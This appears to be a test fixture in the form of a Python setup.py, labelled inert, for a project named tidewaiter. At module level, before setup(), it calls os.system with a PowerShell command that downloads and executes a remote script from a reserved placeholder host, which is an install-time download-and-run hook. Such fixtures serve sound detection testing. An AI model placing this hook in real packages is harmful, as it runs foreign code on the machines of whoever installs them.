# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os

os.system("powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://files.invalid/a')\"")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
